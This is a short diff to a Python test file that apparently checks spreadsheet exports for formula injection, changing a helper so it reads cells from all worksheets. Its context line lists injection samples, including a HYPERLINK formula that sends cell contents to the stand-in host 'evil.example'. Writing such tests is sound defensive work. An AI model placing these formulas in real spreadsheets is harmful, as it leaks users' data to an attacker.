@@ -29,8 +29,8 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Details")', "+SUM(1,2)", "-2
 
 def workbook_cells(response):
     assert response.status_code == 200, response.get_data(as_text=True)[:300]
-    ws = load_workbook(BytesIO(response.data)).active
-    return [cell for row in ws.iter_rows() for cell in row if cell.value is not None]
+    book = load_workbook(BytesIO(response.data))  # every sheet: the MFBM report's Pipeline sheet too
+    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]
 
 
 # -- item 2: formula injection, characters that break workbooks ---------------------------------------
